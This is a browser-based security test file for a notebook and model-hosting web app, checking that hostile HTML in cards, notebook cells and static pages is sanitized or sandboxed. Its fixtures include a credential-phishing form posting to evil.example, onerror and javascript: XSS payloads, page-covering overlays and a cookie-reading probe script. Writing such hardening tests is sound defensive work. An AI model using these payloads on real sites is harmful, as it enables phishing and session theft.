/// <reference lib="dom" />
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { collabDocumentName } from '@atrium/protocol';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type * as Y from 'yjs';
import { type Client, connectClient, synced, until } from '../collab/collabClients.js';
import {
  bearer,
  createUser,
  hasBrowser,
  launchBrowser,
  openPageAs,
  screenshotPath,
  startTestServer,
  type TestServer,
  type TestUser,
  uniqueName,
} from '../harness/index.js';
import { createNotebook, notebookOf, openNotebook } from '../notebook/notebookClient.js';
import { api, commitFiles, waitForStage } from '../spaces/runtimeTesting.js';
import { requireClientDist } from './clientDist.js';

/** Everything a hostile card or cell might try: a form posting elsewhere, page styles, handlers, script URLs, an overlay. */
const HOSTILE_HTML = [
  '<form action="https://evil.example/steal" method="post"><input name="password" placeholder="Password"><button>Log in again</button></form>',
  '<style>body { display: none !important }</style>',
  '<img src="x" onerror="window.__pwned = 1">',
  '<a id="jslink" href="javascript:window.__pwned = 2">click me</a>',
  '<div id="overlay" style="position: fixed; inset: 0; background: rgba(255,0,0,.6); z-index: 9999">OVERLAY</div>',
  '<a id="outlink" href="https://example.org/">elsewhere</a>',
].join('\n');

/** A kernel's HTML output: an overlay that tries to cover the page, a pandas-style table, a progress bar. */
const OUTPUT_HTML = [
  '<div id="out-overlay" style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; background: rgba(255,0,0,.5); z-index: 9999">OUTPUT OVERLAY</div>',
  '<table class="dataframe" id="frame"><thead><tr><th></th><th>loss</th><th>accuracy</th></tr></thead>',
  '<tbody><tr><th>0</th><td style="background-color: #fde0dd">0.91</td><td>0.52</td></tr>',
  '<tr><th>1</th><td style="background-color: #fa9fb5">0.42</td><td>0.81</td></tr></tbody></table>',
  '<progress id="bar" value="70" max="100"></progress>',
].join('');

/** A static Space page that reports what its script can reach. */
const PROBE_PAGE = `<!doctype html><html><body><pre id="probe">running</pre><script>
(async () => {
  const out = { origin: self.origin };
  try { out.cookie = document.cookie; } catch (e) { out.cookie = 'blocked: ' + e.name; }
  try {
    const r = await fetch('/api/whoami-v2', { credentials: 'include' });
    out.whoami = r.status;
  } catch (e) { out.whoami = 'blocked'; }
  document.getElementById('probe').textContent = JSON.stringify(out);
})();
</script></body></html>`;

/**
 * User HTML wearing KaTeX's class: a box that KaTeX's own style rule would size and pull up over the
 * page (plain lengths and colours, all that rule allows), a page-sized SVG and a MathML element.
 */
const KATEX_COSTUME = [
  '<div class="katex" id="costume"><span class="katex-html" id="costume-box" style="height: 900px; margin-top: -600px; border-top-width: 600px; border-color: red">COSTUME</span>',
  '<svg id="costume-svg" width="2000" height="2000"><rect width="2000" height="2000" fill="red"></rect></svg>',
  '<math id="costume-math"><mi>x</mi></math></div>',
].join('');

/** The costume lost its KaTeX classes and style; its SVG and MathML are gone. */
async function expectCostumeUndressed(where: Locator) {
  const box = where.locator('[id$="costume-box"]');
  expect(await box.getAttribute('style')).toBeNull();
  expect(await where.locator('[id$="costume"]').getAttribute('class')).not.toMatch(/katex/);
  expect(await box.getAttribute('class')).not.toMatch(/katex/);
  expect(await where.locator('[id$="costume-svg"], [id$="costume-math"]').count()).toBe(0);
  expect(await box.evaluate((el) => getComputedStyle(el).marginTop)).toBe('0px');
}

const CSP_LISTENER = () => {
  const w = window as unknown as { __csp: string[] };
  w.__csp = [];
  document.addEventListener('securitypolicyviolation', (e) =>
    w.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`),
  );
};
const violations = (page: Page) => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
/**
 * On pages showing hostile HTML, the only report allowed: Chromium checks the page's policy even while
 * DOMPurify parses the HTML in an inert document, so each inline handler is reported blocked before
 * DOMPurify drops it. Anything else (a style, a worker, a connection) would be a real breakage.
 */
const onlyBlockedHandlers = async (page: Page) =>
  expect((await violations(page)).filter((v) => !v.startsWith('script-src-attr inline '))).toEqual([]);
const pwned = (page: Page) =>
  page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null);

describe.skipIf(!hasBrowser())('web hardening in a real browser', () => {
  let server: TestServer;
  let browser: Browser;
  let owner: TestUser;
  let page: Page;
  const contexts: BrowserContext[] = [];
  const errors: string[] = [];
  const clients: Client[] = [];
  const shot = (name: string) =>
    page.screenshot({ path: screenshotPath(`web-hardening-${name}`), fullPage: true });

  beforeAll(async () => {
    requireClientDist();
    server = await startTestServer();
    browser = await launchBrowser();
    owner = await createUser(server.url, uniqueName('ada'));
    page = await openPageAs(browser, server.url, owner, { contexts, errors, timeoutMs: 30_000 });
    await page.addInitScript(CSP_LISTENER);
  }, 120_000);
  afterAll(async () => {
    for (const c of clients) c.destroy();
    for (const c of contexts) await c.close();
    await browser?.close();
    await server?.stop();
  });

  it('renders a card with a form, a style element, handlers, a javascript: link and an overlay inert', async () => {
    const card = `---\nlicense: mit\n---\n# A friendly model\n\n${HOSTILE_HTML}\n\nThe rest of the card.\n`;
    const made = await fetch(`${server.url}/api/repos/create`, {
      method: 'POST',
      headers: { ...bearer(owner.token), 'content-type': 'application/json' },
      body: JSON.stringify({
        name: 'friendly',
        files: [{ path: 'README.md', content: Buffer.from(card).toString('base64') }],
      }),
    });
    expect(made.status).toBe(200);
    await page.goto(`/${owner.name}/friendly`);
    const markdown = page.locator('.markdown');
    await markdown.getByText('The rest of the card.').waitFor();
    await shot('card');
    expect(await markdown.locator('form, input, button, style').count()).toBe(0);
    expect(await page.locator('style', { hasText: 'display: none' }).count()).toBe(0);
    expect(await page.locator('body').isVisible()).toBe(true);
    expect(await markdown.locator('a', { hasText: 'click me' }).getAttribute('href')).toBeNull();
    expect(await markdown.locator('a', { hasText: 'elsewhere' }).getAttribute('rel')).toBe(
      'noopener noreferrer nofollow',
    );
    // The overlay lost its inline style (markdown keeps none): it is an ordinary block in the card.
    expect(await markdown.getByText('OVERLAY').evaluate((el) => getComputedStyle(el).position)).toBe(
      'static',
    );
    expect(await pwned(page)).toBeNull();
    await onlyBlockedHandlers(page);
  });

  it('keeps a notebook HTML output with a fixed overlay inside its cell; tables, progress bars and charts still work', async () => {
    const base = notebookOf(['display(html)']);
    const nb: { cells: Record<string, unknown>[] } = { ...base, cells: [...base.cells] };
    nb.cells[0] = {
      ...base.cells[0],
      execution_count: 1,
      outputs: [
        {
          output_type: 'display_data',
          metadata: {},
          data: { 'text/html': OUTPUT_HTML, 'text/plain': 'frame' },
        },
        { output_type: 'display_data', metadata: {}, data: { 'text/markdown': `**bold** ${HOSTILE_HTML}` } },
        {
          output_type: 'display_data',
          metadata: {},
          data: {
            'application/vnd.vegalite.v5+json': {
              data: {
                values: [
                  { x: 'a', y: 3 },
                  { x: 'b', y: 7 },
                ],
              },
              mark: 'bar',
              transform: [{ calculate: 'datum.y * 2', as: 'double' }],
              encoding: { x: { field: 'x', type: 'nominal' }, y: { field: 'double', type: 'quantitative' } },
            },
          },
        },
      ],
    };
    nb.cells.push({
      cell_type: 'markdown',
      id: 'm0',
      metadata: {},
      source: `# Notes\n${HOSTILE_HTML}`,
    });
    const id = await createNotebook(server.url, owner, uniqueName('nb'), { notebook: nb });
    await openNotebook(page, id);
    const output = page.locator('.nb-output-html', { has: page.locator('#frame, [id$="frame"]') });
    await output.waitFor();
    await page.locator('.nb-output-chart svg .mark-rect path').first().waitFor();
    await shot('notebook');

    const box = await output.boundingBox();
    const overlay = await page.locator('[id$="out-overlay"]').boundingBox();
    if (!box || !overlay) throw new Error('output or overlay not laid out');
    // The overlay asked for the whole viewport from its top-left corner: it is placed at the
    // output's corner instead, and drawn only inside the output's box.
    expect(Math.abs(overlay.x - box.x)).toBeLessThanOrEqual(1);
    expect(Math.abs(overlay.y - box.y)).toBeLessThanOrEqual(1);
    const hits = await page.evaluate(
      (points) =>
        points.map(([x, y]) =>
          Boolean(document.elementFromPoint(x as number, y as number)?.closest('[id$="overlay"]')),
        ),
      [
        [box.x + 10, box.y + 10],
        [5, 5],
        [box.x + box.width + 20, box.y + 10],
        [box.x + 10, box.y + box.height + 20],
      ],
    );
    expect(hits).toEqual([true, false, false, false]);
    const table = await page.locator('[id$="frame"]').boundingBox();
    expect(table?.width ?? 0).toBeGreaterThan(100);
    expect(
      await page
        .locator('[id$="frame"] td')
        .first()
        .evaluate((td) => getComputedStyle(td).backgroundColor),
    ).toBe('rgb(253, 224, 221)');
    expect(
      await page.locator('progress[id$="bar"]').evaluate((p) => (p as HTMLProgressElement).position),
    ).toBe(0.7);
    // The markdown output and the markdown cell went through the same sanitizer.
    const cellMarkdown = page.locator('.nb-markdown');
    expect(await cellMarkdown.getByText('Notes').count()).toBe(1);
    for (const where of [cellMarkdown, page.locator('.nb-output-html.markdown')])
      expect(await where.locator('form, input, button, style').count()).toBe(0);
    expect(await page.locator('.nb-output-html.markdown strong', { hasText: 'bold' }).count()).toBe(1);
    expect(await pwned(page)).toBeNull();
    await onlyBlockedHandlers(page);
  });

  it('gives HTML dressed as KaTeX no inline styles, SVG or MathML in a card or a markdown cell; real formulas keep theirs', async () => {
    const card = `---\nlicense: mit\n---\n# Dressed as math\n\n${KATEX_COSTUME}\n\nThe rest of the card.\n`;
    const made = await fetch(`${server.url}/api/repos/create`, {
      method: 'POST',
      headers: { ...bearer(owner.token), 'content-type': 'application/json' },
      body: JSON.stringify({
        name: 'costume',
        files: [{ path: 'README.md', content: Buffer.from(card).toString('base64') }],
      }),
    });
    expect(made.status).toBe(200);
    await page.goto(`/${owner.name}/costume`);
    const markdown = page.locator('.markdown');
    await markdown.getByText('The rest of the card.').waitFor();
    await expectCostumeUndressed(markdown);

    const base = notebookOf(['1']);
    const nb = {
      ...base,
      cells: [{ cell_type: 'markdown', id: 'm0', metadata: {}, source: `$\\sqrt{x^2}$\n\n${KATEX_COSTUME}` }],
    };
    const id = await createNotebook(server.url, owner, uniqueName('nb'), { notebook: nb });
    await page.goto(`/notebooks/${id}`);
    const cell = page.locator('.nb-markdown');
    await cell.locator('.katex').first().waitFor();
    await shot('katex-costume');
    await expectCostumeUndressed(cell);
    // The real formula still has KaTeX's box sizes, its MathML copy and its stretchy SVG root sign.
    expect(await cell.locator('.katex-html .strut').first().getAttribute('style')).toMatch(/height:/);
    expect(await cell.locator('.katex math').count()).toBe(1);
    expect(await cell.locator('.katex svg').count()).toBeGreaterThanOrEqual(1);
  });

  it('lets CodeMirror and Monaco edit under the Content-Security-Policy, with no violation reported', async () => {
    const id = await createNotebook(server.url, owner, uniqueName('nb'), {
      notebook: notebookOf(['const a = 1;']),
    });
    const watcher = connectClient(server, collabDocumentName('notebook', id), { token: owner.token });
    clients.push(watcher);
    await synced(watcher);
    await page.goto(`/notebooks/${id}`);
    await page.locator('[data-cell-id="c0"] .cm-content').click();
    await page.keyboard.press('End');
    await page.keyboard.type(' // typed under CSP', { delay: 5 });
    const source = () =>
      String(
        (watcher.doc.getArray<Y.Map<unknown>>('cells').get(0) as Y.Map<unknown> | undefined)?.get('source') ??
          '',
      );
    await until(
      () => source().includes('typed under CSP'),
      20_000,
      'the CodeMirror edit to reach the server',
    );
    expect(await violations(page)).toEqual([]);

    const made = await api(server.url, '/api/spaces/from-template', {
      body: { template: 'static-space', name: uniqueName('site') },
      user: owner,
    });
    expect(made.status).toBe(201);
    const spaceId = made.body.id as string;
    const space = connectClient(server, collabDocumentName('space', spaceId), { token: owner.token });
    clients.push(space);
    await synced(space);
    await page.goto(`/spaces/${spaceId}/files`);
    const monaco = page.locator('.monaco-host .view-lines');
    await monaco.first().waitFor();
    await monaco.first().click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.type('<!-- typed under CSP -->', { delay: 5 });
    const files = space.doc.getMap<Y.Text>('files');
    await until(
      () => [...files.values()].some((t) => t.toString().includes('typed under CSP')),
      20_000,
      'the Monaco edit to reach the server',
    );
    await shot('monaco');
    expect(await violations(page)).toEqual([]);
    expect(errors).toEqual([]);
  }, 120_000);

  it("runs a static Space's script in an opaque origin, without the visitor's cookies or session", async () => {
    const made = await api(server.url, '/api/spaces/from-template', {
      body: { template: 'static-space', name: uniqueName('probe') },
      user: owner,
    });
    const spaceId = made.body.id as string;
    await commitFiles(server.url, spaceId, owner, { 'index.html': PROBE_PAGE });
    await waitForStage(server.url, spaceId, ['RUNNING']);
    // Opened at the top level, the way a link someone shares would open it.
    await page.goto(`/spaces/${spaceId}/app/`);
    await page.locator('#probe', { hasText: 'origin' }).waitFor();
    const probe = JSON.parse((await page.locator('#probe').textContent()) ?? '{}') as Record<string, unknown>;
    expect(probe.origin).toBe('null');
    expect(String(probe.cookie)).toMatch(/^blocked: SecurityError/);
    // Whatever the fetch reached, it was not this user's session.
    expect(probe.whoami === 'blocked' || probe.whoami === 401).toBe(true);
    await shot('static-space');
  }, 60_000);

  it('can be framed by another site only on an embed page', async () => {
    const made = await api(server.url, '/api/spaces/from-template', {
      body: { template: 'static-space', name: uniqueName('framed') },
      user: owner,
    });
    const spaceId = made.body.id as string;
    await waitForStage(server.url, spaceId, ['RUNNING']);
    // Another origin (another port) framing Atrium's app and an embed page.
    const other = http.createServer((_req, res) => {
      res.setHeader('content-type', 'text/html');
      res.end(
        `<iframe id="app" src="${server.url}/" width="600" height="300"></iframe>` +
          `<iframe id="embed" src="${server.url}/embed/spaces/${spaceId}" width="600" height="300"></iframe>`,
      );
    });
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
    try {
      await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
      const embed = page.frameLocator('#embed');
      await embed.locator('.space-embed').waitFor();
      await shot('framed');
      const app = page
        .frames()
        .find((f) => f.name() === '' && f !== page.mainFrame() && !f.url().includes('/embed/'));
      // The browser refused to show the app in the frame: nothing of Atrium's page is in it.
      expect(app ? await app.locator('#root').count() : 0).toBe(0);
      expect(await embed.locator('.space-embed-footer').count()).toBe(1);
    } finally {
      await new Promise((r) => other.close(r));
    }
  }, 60_000);
});
